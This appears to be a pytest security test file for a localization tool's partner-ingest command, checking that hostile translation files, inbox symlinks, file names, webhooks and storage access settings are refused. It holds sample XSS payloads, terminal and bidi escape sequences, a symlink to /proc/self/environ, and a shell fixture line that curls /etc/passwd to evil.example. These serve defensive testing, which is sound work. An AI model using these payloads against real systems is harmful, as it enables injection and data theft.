"""Hostile partner input: returned files, inbox entries, kits, webhooks and access settings a partner
(or a misconfiguration) controls. Every case runs the real command (``localize.cli.main``), asserts the
exact problem text, that nothing was followed, read or merged that should not have been, and that no
partner-visible file holds the process environment (the CANARY) or another partner's data.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from hostile.conftest import CANARY, assert_no_leak
from localize.catalogs.po import read_po
from localize.cli import main

ROOT = Path(__file__).resolve().parents[2]
RETURNS = ROOT / "tests" / "fixtures" / "returns"
GOOD = (RETURNS / "files" / "good.po").read_bytes()
COURSE = "waves"

CONFIG = """\
[workspace]
location = "locales"

[qa]
max_file_bytes = 65536
max_string_chars = 2000

[[partners]]
id = "lima"
name = "Lima"
locales = ["es"]
inbox = "inboxes/lima"
{lima_hook}

[[partners]]
id = "cairo"
name = "Cairo"
locales = ["ar"]
inbox = "inboxes/cairo"
"""


@dataclass
class Project:
    root: Path

    @property
    def config(self) -> Path:
        return self.root / "localize.toml"

    @property
    def ws(self) -> Path:
        return self.root / "locales"

    @property
    def lima(self) -> Path:
        return self.root / "inboxes" / "lima"

    @property
    def cairo(self) -> Path:
        return self.root / "inboxes" / "cairo"

    @property
    def returns(self) -> Path:
        return self.lima / "returns"

    def catalog(self, locale: str = "es") -> bytes:
        return (self.ws / locale / "LC_MESSAGES" / f"{COURSE}.po").read_bytes()

    def kit(self, locale: str = "es") -> str:
        inbox = self.lima if locale == "es" else self.cairo
        [kit] = [p.name for p in (inbox / "kits" / COURSE / locale).iterdir()]
        return kit

    def kit_file(self, locale: str = "es") -> Path:
        inbox = self.lima if locale == "es" else self.cairo
        return inbox / "kits" / COURSE / locale / self.kit(locale) / f"{COURSE}.{locale}.po"

    def good(self) -> bytes:
        return GOOD.replace(b"KIT", self.kit().encode()).replace(b"acme", b"lima")

    def drop(self, name: str | bytes, data: bytes) -> Path:
        self.returns.mkdir(parents=True, exist_ok=True)
        path = Path(
            os.fsdecode(os.fsencode(self.returns) + b"/" + (name if isinstance(name, bytes) else name.encode()))
        )
        path.write_bytes(data)
        return path

    def reports(self) -> list[dict[str, object]]:
        return [json.loads(p.read_bytes()) for p in sorted((self.lima / "reports").glob("*.json"))]


def cli(*argv: str) -> tuple[int, str, str]:
    """Run the command in-process, capturing what it prints."""
    import io
    from contextlib import redirect_stderr, redirect_stdout

    out, err = io.StringIO(), io.StringIO()
    with redirect_stdout(out), redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@pytest.fixture(scope="module")
def pristine(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("pristine")
    (root / "localize.toml").write_text(CONFIG.format(lima_hook=""), encoding="utf-8")
    ws = str(root / "locales")
    for argv in (
        ["extract", str(RETURNS / "course"), "--course", COURSE, "--locales-dir", ws],
        ["init", "--course", COURSE, "--locale", "es", "--locales-dir", ws],
        ["init", "--course", COURSE, "--locale", "ar", "--locales-dir", ws],
        ["route", "--course", COURSE, "--locale", "es", "--config", str(root / "localize.toml")],
        ["route", "--course", COURSE, "--locale", "ar", "--config", str(root / "localize.toml")],
    ):
        code, _, err = cli(*argv)
        assert code == 0, err
    return root


@pytest.fixture
def project(pristine: Path, tmp_path: Path) -> Project:
    shutil.copytree(pristine, tmp_path / "p", symlinks=True)
    return Project(tmp_path / "p")


def ingest(p: Project, *extra: str, partner: str = "lima") -> tuple[int, str, str]:
    code, out, err = cli("ingest", "--partner", partner, "--config", str(p.config), *extra)
    assert "Traceback" not in err
    for text in (out, err):
        assert CANARY not in text
        assert "\x1b" not in text and "\x07" not in text, "a partner's bytes reached the terminal unescaped"
    return code, out, err


def partner_visible_clean(p: Project) -> None:
    assert_no_leak(p.lima, p.cairo)
    # nothing of cairo's kit or assignment reaches lima's reports
    cairo_kit = p.kit("ar").encode()
    for path in (p.lima / "reports").glob("*"):
        assert cairo_kit not in path.read_bytes(), f"{path} names cairo's kit"


def errors(report: dict[str, object]) -> list[tuple[str, str]]:
    return [(str(q["check"]), str(q["message"])) for q in report["problems"] if q["severity"] == "error"]  # type: ignore[union-attr]


def set_msgstr(data: bytes, msgid: str, literal: str) -> bytes:
    """``data`` with the msgstr of ``msgid`` replaced by the PO string literal ``literal`` (escapes as written)."""
    marker = f'msgid "{msgid}"\nmsgstr "'.encode()
    start = data.index(marker) + len(marker) - 1
    end = data.index(b"\n", start)
    return data[:start] + b'"' + literal.encode("utf-8") + b'"' + data[end:]


TITLE = "Waves and Oscillations"
LINK = "Read the <a1>syllabus</a1> before class."
PRINTF = "Problem set %d is due on Friday."
BRACE = "Hello {name}, welcome back."
URL = "Visit https://ocw.example.org/waves for more."
MAIL = "Write to help@example.org with questions."

# -- one bad entry in an otherwise good file: that entry is rejected, the others merged -------------

ENTRY_CASES: dict[str, tuple[str, str, str, str]] = {
    # name: (msgid, msgstr literal, check, exact message)
    "script-tag": (TITLE, "Ondas<script>alert(1)</script>", "markup", "<script> is not allowed in a translation"),
    "img-onerror": (
        TITLE,
        "<img src=x onerror=alert(document.cookie)>",
        "markup",
        "'<img src=x onerror=alert(document.cookie' looks like HTML; only the source's placeholders may be used",
    ),
    "javascript-url-in-text": (
        TITLE,
        "Ondas javascript:alert(1)",
        "markup",
        "javascript:, vbscript: and data: URLs are not allowed in a translation",
    ),
    "java-tab-script-url": (
        TITLE,
        "Ondas java\\tscript:alert(1)",
        "markup",
        "javascript:, vbscript: and data: URLs are not allowed in a translation",
    ),
    "vbscript-url": (
        TITLE,
        "Ondas vbscript:msgbox(1)",
        "markup",
        "javascript:, vbscript: and data: URLs are not allowed in a translation",
    ),
    "data-url": (
        TITLE,
        "Ondas data:text/html;base64,PHNjcmlwdD4=",
        "markup",
        "javascript:, vbscript: and data: URLs are not allowed in a translation",
    ),
    "iframe": (TITLE, "<iframe src=//evil.example>", "markup", "<iframe> is not allowed in a translation"),
    "svg-onload": (TITLE, "<svg onload=alert(1)>", "markup", "<svg> is not allowed in a translation"),
    "style-tag": (TITLE, "<style>body{display:none}</style>", "markup", "<style> is not allowed in a translation"),
    "meta-refresh": (
        TITLE,
        '<meta http-equiv=refresh content=\\"0;url=//evil.example\\">',
        "markup",
        "<meta> is not allowed in a translation",
    ),
    "base-href": (TITLE, "<base href=//evil.example/>", "markup", "<base> is not allowed in a translation"),
    "form-tag": (TITLE, "<form action=//evil.example>", "markup", "<form> is not allowed in a translation"),
    "bare-handler": (
        TITLE,
        'Ondas\\" onmouseover=alert(1) x=\\"',
        "markup",
        "an event handler attribute (on...=) is not allowed in a translation",
    ),
    "html-comment": (
        TITLE,
        "Ondas <!-- hidden -->",
        "markup",
        "'<!--' looks like HTML; only the source's placeholders may be used",
    ),
    "cdata": (
        TITLE,
        "Ondas <![CDATA[x]]>",
        "markup",
        "'<![CDATA[' looks like HTML; only the source's placeholders may be used",
    ),
    "placeholder-with-attribute": (
        LINK,
        'Lea el <a1 href=\\"javascript:alert(1)\\">programa</a1>.',
        "placeholders",
        "</a1> closes a placeholder that is not open or is misnested",
    ),
    "nul-octal-escape": (
        TITLE,
        "Ondas\\0 y oscilaciones",
        "control-characters",
        "control character U+0000 is not allowed; remove it",
    ),
    "nul-hex-escape": (TITLE, "Ondas\\x00", "control-characters", "control character U+0000 is not allowed; remove it"),
    "ansi-clear-screen": (
        TITLE,
        "Ondas\\033[2J\\033[H",
        "control-characters",
        "control character U+001B is not allowed; remove it",
    ),
    "osc-title-escape": (
        TITLE,
        "\\033]0;owned\\a Ondas",
        "control-characters",
        "control character U+001B is not allowed; remove it",
    ),
    "bell": (TITLE, "Ondas\\a", "control-characters", "control character U+0007 is not allowed; remove it"),
    "c1-csi": (TITLE, "Ondas\u009b2J", "control-characters", "control character U+009B is not allowed; remove it"),
    "delete-char": (TITLE, "Ondas\u007f", "control-characters", "control character U+007F is not allowed; remove it"),
    "carriage-return": (
        TITLE,
        "Ondas\\rOK",
        "control-characters",
        "control character U+000D is not allowed; remove it",
    ),
    "bidi-rlo-trojan-source": (
        TITLE,
        "Ondas \u202eseyalpsid\u202c y oscilaciones",
        "bidi-controls",
        "bidi override U+202E is not allowed (it reverses the text that follows); remove it, or use U+200F RIGHT-TO-LEFT MARK / U+200E LEFT-TO-RIGHT MARK",
    ),
    "bidi-isolate-left-open": (
        TITLE,
        "Ondas \u2067y oscilaciones",
        "bidi-controls",
        "bidi control U+2067 is not balanced (every U+202A/U+202B needs a U+202C, every U+2066-U+2068 a U+2069, in the same string); balance or remove it",
    ),
    "bidi-stray-pop": (
        TITLE,
        "Ondas\u202c y oscilaciones",
        "bidi-controls",
        "bidi control U+202C is not balanced (every U+202A/U+202B needs a U+202C, every U+2066-U+2068 a U+2069, in the same string); balance or remove it",
    ),
    "form-feed": (TITLE, "Ondas\\f", "control-characters", "control character U+000C is not allowed; remove it"),
    "over-long-msgstr": (
        TITLE,
        "a" * 5000,
        "length-limit",
        "the translation has 5000 characters, more than the limit of 2000 ([qa] max_string_chars)",
    ),
    "printf-percent-n": (
        PRINTF,
        "El conjunto %d %n se entrega el viernes.",
        "variables",
        "printf variables differ from the source: extra %n",
    ),
    "printf-swapped-for-string": (
        PRINTF,
        "El conjunto de problemas %s se entrega el viernes.",
        "variables",
        "printf variables differ from the source: missing %d; extra %s",
    ),
    "brace-dunder": (
        BRACE,
        "Hola {name.__class__}, bienvenido.",
        "variables",
        "brace variables differ from the source: missing {name}; extra {name.__class__}",
    ),
    "phishing-url": (
        URL,
        "Visite https://ocw.example.org.evil.example/waves para saber más.",
        "urls",
        "URL https://ocw.example.org/waves is missing or changed",
    ),
    "mail-redirected": (
        MAIL,
        "Escriba a help@evil.example si tiene preguntas.",
        "urls",
        "e-mail address help@example.org is missing or changed",
    ),
    "leading-newline": (
        TITLE,
        "\\nOndas",
        "newlines",
        "the source and the translation must both begin and end with a newline, or neither",
    ),
}


@pytest.mark.parametrize("name", sorted(ENTRY_CASES))
def test_a_hostile_entry_is_rejected_alone(name: str, project: Project) -> None:
    msgid, literal, check, message = ENTRY_CASES[name]
    data = set_msgstr(project.good(), msgid, literal)
    project.drop("return.po", data)

    code, out, _err = ingest(project)

    assert code == 1 and "return.po: partially accepted (waves/es kit " in out
    [report] = project.reports()
    assert report["state"] == "partially accepted" and report["rejected"] == 1
    assert (check, message) in errors(report)
    rejected = [e for e in report["entries"] if e["status"] == "rejected"]  # type: ignore[union-attr]
    assert [e["msgid"] for e in rejected] == [msgid]
    catalog = {e.msgid: e.msgstr for e in read_po(project.catalog()).entries}
    assert catalog[msgid] == ""  # the hostile text never reached the catalog of record
    assert sum(1 for v in catalog.values() if v) == report["accepted"] > 0
    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<iframe src" not in html and "\x1b" not in html
    assert html.count('<li class="rejected">') == 1
    partner_visible_clean(project)


# -- whole files refused: the catalog of record stays byte-identical -----------------------------------

KIT_OF_CAIRO = "@CAIRO@"


def _header(g: bytes, name: str, value: str) -> bytes:
    start = g.index(f'"{name}: '.encode())
    end = g.index(b"\n", start)
    return g[:start] + f'"{name}: {value}\\n"'.encode() + g[end:]


FILE_CASES: dict[str, tuple[Callable[[bytes], bytes], str, str]] = {
    "empty": (lambda g: b"", "syntax", "the file is empty"),
    "whitespace-only": (lambda g: b" \n\t\r\n  ", "syntax", "the file is empty"),
    "zip-bytes": (lambda g: b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256)), "syntax", None),
    "nul-bytes-only": (lambda g: b"\x00" * 64, "syntax", None),
    "shell-script": (lambda g: b"#!/bin/sh\ncurl http://evil.example/$(cat /etc/passwd)\n", "syntax", None),
    "passwd-like": (lambda g: b"root:x:0:0:root:/root:/bin/bash\nSECRET-LINE-42\n", "syntax", None),
    "html-page": (lambda g: b"<html><body><script>alert(1)</script></body></html>\n", "syntax", None),
    "utf16-bom": (lambda g: b"\xff\xfe" + g.decode().encode("utf-16-le"), "syntax", None),
    "utf32": (lambda g: g.decode().encode("utf-32"), "syntax", None),
    "charset-undefined-latin1": (
        lambda g: _header(g, "Content-Type", "text/plain; charset=undefined").replace("ó".encode(), b"\xf3"),
        "syntax",
        None,
    ),
    "charset-placeholder-latin1": (
        lambda g: _header(g, "Content-Type", "text/plain; charset=CHARSET").replace("ó".encode(), b"\xf3"),
        "syntax",
        None,
    ),
    "truncated-mid-entry": (lambda g: g[: g.index(b'msgstr "Ondas') + 12], "syntax", None),
    "duplicate-entry": (
        lambda g: g + b'\n#: index.html\nmsgid "Waves and Oscillations"\nmsgstr "Otra vez"\n',
        "syntax",
        None,
    ),
    "second-header": (lambda g: g + b'\nmsgid ""\nmsgstr "Language: ar\\n"\n', "syntax", None),
    "plural-index-on-singular": (
        lambda g: g.replace(b'msgstr "Ondas y oscilaciones"', b'msgstr[0] "Ondas"'),
        "syntax",
        None,
    ),
    "plural-index-gap": (
        lambda g: g + b'\nmsgid "one wave"\nmsgid_plural "%d waves"\nmsgstr[0] "x"\nmsgstr[7] "y"\n',
        "syntax",
        None,
    ),
    "invalid-escape": (lambda g: g.replace(b"Ondas y", b"Ondas \\q y"), "syntax", None),
    "wrong-language": (lambda g: _header(g, "Language", "ar"), "header-language", None),
    "language-with-markup": (lambda g: _header(g, "Language", "es<script>alert(1)</script>"), "header-language", None),
    "language-with-escape": (lambda g: _header(g, "Language", "es\\033[31m"), "header-language", None),
    "no-language": (lambda g: g.replace(b'"Language: es\\n"\n', b""), "header-language", None),
    "kit-of-another-partner": (lambda g: g, "kit", None),  # the kit id is replaced by cairo's below
    "unknown-kit": (lambda g: _header(g, "X-Localize-Kit", "20990101-deadbeef00"), "kit", None),
    "kit-id-with-control-chars": (lambda g: _header(g, "X-Localize-Kit", "x\\033]0;t\\a" + "y" * 300), "kit", None),
    "nplurals-huge": (
        lambda g: (
            _header(g, "Plural-Forms", "nplurals=999999999; plural=n;")
            + b'\nmsgid "one wave"\nmsgid_plural "%d waves"\nmsgstr[0] "x"\nmsgstr[1] "y"\n'
        ),
        "plural-forms",
        None,
    ),
}


# the exact problem each file above gets (pinned from the QA gate's wording)
FILE_MESSAGES = {
    "charset-placeholder-latin1": (
        "syntax",
        "not valid CHARSET (byte 0xf3); save the file as UTF-8 or declare its charset in the Content-Type header",
    ),
    "charset-undefined-latin1": (
        "syntax",
        "unknown charset 'undefined' in the Content-Type header; save the file as UTF-8",
    ),
    "duplicate-entry": (
        "syntax",
        "duplicate entry for msgid 'Waves and Oscillations', first defined at line 23; keep one of them",
    ),
    "empty": ("syntax", "the file is empty"),
    "html-page": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
    "invalid-escape": ("syntax", "invalid escape sequence \\q"),
    "kit-id-with-control-chars": (
        "kit",
        "no kit 'x\\x1b]0;t\\x07yyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyyy' was sent to lima (X-Localize-Kit header); send the file from a kit you received",
    ),
    "kit-of-another-partner": (
        "kit",
        "this file answers a kit that was sent to another partner, not to lima: this inbox is lima's; return the file through the inbox of the partner the kit was sent to",
    ),
    "language-with-escape": ("header-language", "unknown locale code 'es\\x1b[31m'; close matches: none"),
    "language-with-markup": (
        "header-language",
        "unknown locale code 'es<script>alert(1)</script>'; close matches: none",
    ),
    "no-language": ("header-language", "the header has no Language; set it to the kit's locale"),
    "nplurals-huge": (
        "plural-forms",
        "the header has no valid Plural-Forms; use: nplurals=3; plural=(n == 1 ? 0 : n != 0 && n % 1000000 == 0 ? 1 : 2);",
    ),
    "nul-bytes-only": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
    "passwd-like": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
    "plural-index-gap": ("syntax", "plural forms must be numbered msgstr[0], msgstr[1]... without gaps"),
    "plural-index-on-singular": ("syntax", "msgstr[N] without msgid_plural"),
    "second-header": ("syntax", "a second header entry (the first is at line 1)"),
    "shell-script": ("syntax", "unexpected text: expected msgctxt, msgid, msgid_plural, msgstr or a comment"),
    "truncated-mid-entry": ("syntax", 'expected a quoted string ("...") here'),
    "unknown-kit": (
        "kit",
        "no kit 20990101-deadbeef00 was sent to lima (X-Localize-Kit header); send the file from a kit you received",
    ),
    "utf16-bom": (
        "syntax",
        "not valid UTF-8 (byte 0xff); save the file as UTF-8 or declare its charset in the Content-Type header",
    ),
    "utf32": (
        "syntax",
        "not valid UTF-8 (byte 0xff); save the file as UTF-8 or declare its charset in the Content-Type header",
    ),
    "whitespace-only": ("syntax", "the file is empty"),
    "wrong-language": ("header-language", "Language is ar, but this kit is for es; set Language: es"),
    "zip-bytes": (
        "syntax",
        "not valid UTF-8 (byte 0x80); save the file as UTF-8 or declare its charset in the Content-Type header",
    ),
}


@pytest.mark.parametrize("name", sorted(FILE_CASES))
def test_a_hostile_file_is_refused_whole(name: str, project: Project) -> None:
    build, check, message = FILE_CASES[name]
    good = project.good()
    data = build(good).replace(b"@LIMA@", project.kit().encode())
    if name == "kit-of-another-partner":
        data = data.replace(project.kit().encode(), project.kit("ar").encode())
    before = project.catalog()
    project.drop("return.po", data)

    code, _out, _err = ingest(project)

    [report] = project.reports()
    found = errors(report)
    if os.environ.get("PROBE"):
        print(f"PROBE {name}: {code} {report['state']} {found!r}", file=sys.__stderr__)
    assert code == 1 and report["state"] == "rejected" and report["accepted"] == 0
    assert [c for c, _ in found if c == check], found
    assert (check, message or FILE_MESSAGES[name][1]) in found
    assert found[0] == FILE_MESSAGES[name]
    assert project.catalog() == before
    archived = Path(str(report["archived"]))
    assert archived.read_bytes() == data  # kept byte for byte all the same
    assert (project.returns / "processed" / "return.po").read_bytes() == data
    assert not (project.returns / "return.po").exists()
    partner_visible_clean(project)
    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
    assert "SECRET-LINE-42" not in html and "curl http" not in html and "<script>alert" not in html


FORGED_KIT = {
    # the kit header is only ever read from the parsed header: text elsewhere naming a kit is ignored
    "in-a-msgstr": lambda g, kit: g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ').replace(
        b'msgstr "Ondas y oscilaciones"', b'msgstr "X-Localize-Kit: ' + kit + b'"'
    ),
    "in-a-comment": lambda g, kit: g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ').replace(
        b"#: index.html\n", b"# X-Localize-Kit: " + kit + b"\n#: index.html\n", 1
    ),
    "in-a-msgid": lambda g, kit: (
        g.replace(b'"X-Localize-Kit: ', b'"X-Old-Kit: ') + b'\nmsgid "X-Localize-Kit: ' + kit + b'"\nmsgstr "x"\n'
    ),
}


@pytest.mark.parametrize("name", sorted(FORGED_KIT))
def test_a_kit_id_outside_the_header_is_ignored(name: str, project: Project) -> None:
    """Cairo's kit id planted outside the header of lima's file: the file is still lima's own return."""
    data = FORGED_KIT[name](project.good(), project.kit("ar").encode())
    project.drop("return.po", data)
    _code, _out, _err = ingest(project)
    [report] = project.reports()
    assert report["kit"] == project.kit() and report["course"] == COURSE and report["locale"] == "es"
    assert not any(c == "kit" for c, _ in errors(report))
    assert project.catalog() != (project.ws / "ar" / "LC_MESSAGES" / f"{COURSE}.po").read_bytes()
    assert read_po((project.ws / "ar" / "LC_MESSAGES" / f"{COURSE}.po").read_bytes()).entries[0].msgstr == ""


# -- inbox entries that are not regular files: refused unopened, reported, moved aside -----------------

ENTRY_WHAT = {
    "link-to-proc-environ": "a symbolic link",
    "link-to-cairo-kit": "a symbolic link",
    "link-to-workspace-catalog": "a symbolic link",
    "dangling-link": "a symbolic link",
    "link-to-dev-zero": "a symbolic link",
    "fifo": "a named pipe (FIFO)",
    "char-device": "a device file",
    "unix-socket": "a socket",
    "linked-subfolder": "a symbolic link",
}


def _place_entry(p: Project, name: str) -> str:
    p.returns.mkdir(parents=True, exist_ok=True)
    target = p.returns / "env.po"
    if name == "link-to-proc-environ":
        target.symlink_to("/proc/self/environ")
    elif name == "link-to-cairo-kit":
        target.symlink_to(p.kit_file("ar"))
    elif name == "link-to-workspace-catalog":
        target.symlink_to(p.ws / "es" / "LC_MESSAGES" / f"{COURSE}.po")
    elif name == "dangling-link":
        target.symlink_to(p.root / "nowhere.po")
    elif name == "link-to-dev-zero":
        target.symlink_to("/dev/zero")
    elif name == "fifo":
        os.mkfifo(target)
    elif name == "char-device":
        if os.geteuid() != 0:
            pytest.skip("creating a device file needs root")
        os.mknod(target, 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # /dev/zero's numbers
    elif name == "unix-socket":
        target = p.returns / "s.po"
        sock = socket.socket(socket.AF_UNIX)
        sock.bind(str(target))
        sock.close()
        return "returns/s.po"
    elif name == "linked-subfolder":
        (p.root / "elsewhere").mkdir()
        (p.root / "elsewhere" / "x.po").write_bytes(p.good())
        (p.returns / "sub").symlink_to(p.root / "elsewhere")
        return "returns/sub"
    return "returns/env.po"


@pytest.mark.parametrize("name", sorted(ENTRY_WHAT))
def test_an_inbox_entry_that_is_not_a_regular_file_is_refused_unopened(name: str, project: Project) -> None:
    key = _place_entry(project, name)
    before = project.catalog()
    started = time.monotonic()

    code, out, err = ingest(project)

    assert time.monotonic() - started < 20  # a FIFO or /dev/zero never holds the run
    base = key.rsplit("/", 1)[-1]
    message = (
        f"{key} is {ENTRY_WHAT[name]}: only regular files are taken from an inbox (localize never follows "
        "links); save the .po file itself into returns/"
    )
    assert code == 1 and f"{base}: rejected (no kit)" in out
    assert f"error: file-type: {message}" in err
    [report] = project.reports()
    assert errors(report) == [("file-type", message)] and report["archived"] == ""
    assert project.catalog() == before
    assert not list((project.ws / "archive" / "returns").glob("lima/*"))  # nothing was read, nothing archived
    moved = project.returns / "processed" / base
    assert moved.is_symlink() or stat.S_ISFIFO(moved.lstat().st_mode) or not stat.S_ISREG(moved.lstat().st_mode)
    partner_visible_clean(project)
    assert cli("ingest", "--partner", "lima", "--config", str(project.config))[1] == "no returned files waiting\n"


def test_a_linked_returns_folder_is_refused(project: Project) -> None:
    (project.root / "elsewhere").mkdir()
    (project.root / "elsewhere" / "x.po").write_bytes(project.good())
    project.returns.rmdir() if project.returns.exists() else None
    project.returns.symlink_to(project.root / "elsewhere")
    before = project.catalog()
    code, _out, err = ingest(project)
    assert code == 1
    assert (
        "error: file-type: returns is a symbolic link: only regular files are taken from an inbox "
        "(localize never follows links); save the .po file itself into returns/"
    ) in err
    assert project.catalog() == before
    assert (project.root / "elsewhere" / "x.po").read_bytes() == project.good()  # not moved, not read


def test_a_linked_reports_folder_is_never_written_through(project: Project) -> None:
    """A partner links reports/ to the workspace: the report is not written there (and says why)."""
    (project.lima / "reports").symlink_to(project.ws / "es" / "LC_MESSAGES")
    project.drop("return.po", project.good())
    listing = sorted(p.name for p in (project.ws / "es" / "LC_MESSAGES").iterdir())
    code, _out, err = ingest(project)
    assert code == 2
    assert "reports is a symbolic link, not a folder: localize never follows links in an inbox" in err
    assert sorted(p.name for p in (project.ws / "es" / "LC_MESSAGES").iterdir()) == listing
    # the partner's work is not lost: fixing the inbox and running again finishes it
    (project.lima / "reports").unlink()
    code, out, _ = ingest(project)
    assert code == 0 and "return.po: accepted" in out


def test_a_hard_link_is_a_regular_file_and_is_taken(project: Project) -> None:
    source = project.lima / "draft.po"
    source.write_bytes(project.good())
    project.returns.mkdir(parents=True, exist_ok=True)
    os.link(source, project.returns / "return.po")
    code, out, _ = ingest(project)
    assert code == 0 and "return.po: accepted" in out


def test_a_huge_file_is_refused_without_being_read(project: Project) -> None:
    path = project.drop("huge.po", b"")
    with open(path, "r+b") as f:
        f.truncate(8 * 1024**3)  # sparse: 8 GiB that would exhaust memory if read
    before = project.catalog()
    code, _out, err = ingest(project)
    message = (
        "the file has 8589934592 bytes, more than the limit of 65536 ([qa] max_file_bytes); it was not read. "
        "Split the work or ask your coordinator"
    )
    assert code == 1 and f"error: size: {message}" in err
    assert project.catalog() == before
    assert (project.returns / "processed" / "huge.po").stat().st_size == 8 * 1024**3


NAMES = {
    "escape-sequence-name": b"\x1b]0;owned\x07\x1b[2J.po",
    "newline-name": b"a\nerror: forged line.po",
    "non-utf8-name": b"caf\xe9.po",
    "bidi-override-name": "\u202eop.exe\u202d.po".encode(),
    "bidi-mark-names": "\u061cab\u200fc\u200e.po".encode(),  # Arabic letter mark, RLM, LRM
    "markup-name": b"<img src=x onerror=alert(1)>.po",
}


@pytest.mark.parametrize("name", sorted(NAMES))
def test_a_hostile_file_name_never_reaches_a_terminal_or_a_page_raw(name: str, project: Project) -> None:
    project.drop(NAMES[name], project.good())
    code, out, _err = ingest(project)  # asserts no ESC or BEL reached stdout/stderr
    assert code == 0 and ": accepted (waves/es kit " in out
    assert "\n" not in out.split(": accepted")[0]
    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", out)
    [report] = project.reports()
    html = next((project.lima / "reports").glob("*.html")).read_text(encoding="utf-8")
    assert "<img src=x" not in html and "\x1b" not in html
    assert report["accepted"] == 14


# -- webhooks: a hanging partner server costs one deadline, and the notice is sent later -------------


class HangingHook:
    """Accepts connections and never answers, until ``healthy`` is set."""

    def __init__(self) -> None:
        self.healthy = threading.Event()
        self.received: list[bytes] = []
        hook = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                body = self.rfile.read(int(self.headers["Content-Length"]))
                if not hook.healthy.is_set():
                    hook.healthy.wait(60)
                    return
                hook.received.append(body)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self.server.server_port}/hook"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def hanging_hook() -> Iterator[HangingHook]:
    hook = HangingHook()
    yield hook
    hook.healthy.set()
    hook.server.shutdown()


def test_a_hanging_webhook_costs_one_deadline_and_the_notice_waits_in_the_outbox(
    project: Project, hanging_hook: HangingHook, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LIMA_HOOK_SECRET", "s3cret")
    project.config.write_text(
        CONFIG.format(lima_hook=f'webhook_url = "{hanging_hook.url}"\nwebhook_secret_env = "LIMA_HOOK_SECRET"'),
        encoding="utf-8",
    )
    project.drop("return.po", project.good())
    started = time.monotonic()
    code, out, _ = ingest(project)
    took = time.monotonic() - started
    assert code == 0 and "return.po: accepted" in out
    assert took < 9, f"the webhook held ingest for {took:.1f}s"
    [queued] = list((project.ws / "outbox" / "lima").glob("*.json"))
    assert json.loads(queued.read_bytes())["event"] == "qa.report"
    # the partner's server recovers: the next run delivers the queued notice, once
    hanging_hook.healthy.set()
    code, out, _ = ingest(project)
    assert out == "no returned files waiting\n"
    assert [json.loads(b)["event"] for b in hanging_hook.received] == ["qa.report"]
    assert not list((project.ws / "outbox" / "lima").glob("*.json"))
    assert CANARY.encode() not in hanging_hook.received[0]


# -- access: an inbox overlapping the workspace, a region or another inbox is refused --------------

OVERLAPS = {
    "inbox-is-workspace": (
        'location = "s3://bucket/ws"',
        ('inbox = "s3://bucket/ws/inbox"', 'inbox = "s3://bucket/inboxes/cairo"'),
        "",
        "partner 'lima' inbox (s3://bucket/ws/inbox) overlaps the workspace (s3://bucket/ws)",
    ),
    "inbox-contains-a-region": (
        'location = "locales"',
        ('inbox = "s3://bucket/pub"', 'inbox = "s3://bucket/inboxes/cairo"'),
        '[[regions]]\nname = "latam"\nlocation = "s3://bucket/pub/latam"\nlocales = ["es"]\n',
        "partner 'lima' inbox (s3://bucket/pub) overlaps region 'latam' (s3://bucket/pub/latam)",
    ),
    "inbox-inside-another-inbox": (
        'location = "locales"',
        ('inbox = "s3://bucket/inboxes/lima"', 'inbox = "s3://bucket/inboxes/lima/cairo"'),
        "",
        "partner 'lima' inbox (s3://bucket/inboxes/lima) overlaps partner 'cairo' inbox (s3://bucket/inboxes/lima/cairo)",
    ),
    "same-bucket-root": (
        'location = "locales"',
        ('inbox = "s3://bucket/inboxes/lima"', 'inbox = "s3://bucket/inboxes/lima"'),
        "",
        "partner 'lima' inbox (s3://bucket/inboxes/lima) overlaps partner 'cairo' inbox (s3://bucket/inboxes/lima)",
    ),
}


@pytest.mark.parametrize("name", sorted(OVERLAPS))
def test_access_refuses_overlapping_inboxes(name: str, project: Project) -> None:
    workspace, (lima, cairo), regions, message = OVERLAPS[name]
    text = CONFIG.format(lima_hook="").replace('location = "locales"', workspace)
    text = text.replace('inbox = "inboxes/lima"', lima).replace('inbox = "inboxes/cairo"', cairo) + regions
    project.config.write_text(text, encoding="utf-8")
    code, _out, err = cli("access", "--out", str(project.root / "policies"), "--config", str(project.config))
    assert code == 2 and "Traceback" not in err
    assert err == (
        f"error: {message}: give every inbox its own prefix, apart from the workspace, the regions and other inboxes\n"
    )
    assert not (project.root / "policies").exists()


@pytest.mark.parametrize(
    "inbox", ["s3://bucket/inboxes/*", "s3://bucket/*", "s3://bucket/inboxes/ca*ro", "s3://bucket/${aws:username}"]
)
def test_access_refuses_an_inbox_a_policy_would_read_as_a_wildcard(inbox: str, project: Project) -> None:
    """'inboxes/*' passed the overlap check (compared literally) and its policy gave the partner
    every other inbox; '*' gave it the workspace and the regions (shown on a real SeaweedFS)."""
    text = CONFIG.format(lima_hook="").replace('inbox = "inboxes/lima"', 'inbox = "s3://bucket/inboxes/lima"')
    project.config.write_text(text.replace('inbox = "inboxes/cairo"', f'inbox = "{inbox}"'), encoding="utf-8")
    code, _out, err = cli("access", "--out", str(project.root / "policies"), "--config", str(project.config))
    assert code == 2 and err == (
